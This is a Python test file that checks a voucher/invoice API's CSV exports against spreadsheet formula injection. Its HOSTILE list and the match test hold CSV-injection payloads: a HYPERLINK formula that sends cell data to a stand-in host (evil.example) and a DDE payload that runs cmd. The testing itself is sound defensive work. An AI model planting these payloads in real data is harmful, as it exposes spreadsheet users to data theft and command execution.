"""Every CSV export opened as a spreadsheet would: text from outside never starts a formula."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote

import pytest

from tests.api.invoice_world import TODAY, local, redemption, vid, voucher
from voucher.tables import _cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1+1",
           "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
OUR_NUMBER = re.compile(r"-?\d+(,\d\d)?")


@pytest.fixture
def hostile_world(db, clock):
    """Vouchers whose cost centres, and journeys whose locations and client ids, are formulas."""
    clock.now = TODAY
    with db.session() as session:
        for n, text in enumerate(HOSTILE, 1):
            session.add(voucher(n, 480, cost_center=text[:32]))
        session.flush()
        for n, text in enumerate(HOSTILE, 1):
            session.add(redemption(n, local("11-03", 9), client_id=text, outcome="accepted", location=text))
        session.commit()


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter) for cell in row]


def formulas(text: str, delimiter: str) -> list[str]:
    """Cells a spreadsheet would run: starting with a trigger and not a number we wrote."""
    return [c for c in cells(text, delimiter) if c.startswith(TRIGGERS) and not OUR_NUMBER.fullmatch(c)]


@pytest.mark.parametrize(("decimal", "delimiter"), [("point", ","), ("comma", ";")])
def test_the_reconciliation_csv_runs_no_formula(client, auth, hostile_world, decimal, delimiter):
    text = client.get(f"/api/v1/reconciliation?from=2026-10-01&to=2026-11-30&format=csv&decimal={decimal}",
                      headers=auth("finance")).get_data(as_text=True)
    assert "'" + HOSTILE[0][:32] in cells(text, delimiter)
    assert formulas(text, delimiter) == []


@pytest.mark.parametrize(("decimal", "delimiter"), [("point", ","), ("comma", ";")])
def test_the_match_csv_runs_no_formula(client, auth, hostile_world, decimal, delimiter):
    body = "voucher_id;travel_date;amount\n" + "".join(f"{vid(n)};03.11.2026;-4,80\n" for n in range(1, 3))
    body += '"=HYPERLINK(""http://evil.example"")";03.11.2026;4,80\n'
    query = f"?format=csv&decimal={decimal}&operator={quote(HOSTILE[1][:64])}"
    response = client.post(f"/api/v1/invoices/match{query}", data=body.encode(), headers=auth("finance"))
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    found = cells(text, delimiter)
    assert {"'" + HOSTILE[1], "'" + HOSTILE[4], "'" + HOSTILE[5], '\'=HYPERLINK("http://evil.example")'} <= set(found)
    assert "-4,80" in found if decimal == "comma" else "-480" in found  # our own numbers stay numbers
    assert formulas(text, delimiter) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_cell_formatter_quotes_outside_text_that_starts_a_formula(text):
    assert _cell("location", text, False) == "'" + text


def test_the_cell_formatter_leaves_our_numbers_alone():
    assert (_cell("amount_cents", -480, False), _cell("amount_cents", -480, True), _cell("line", 3, True)) == ("-480", "-4,80", "3")
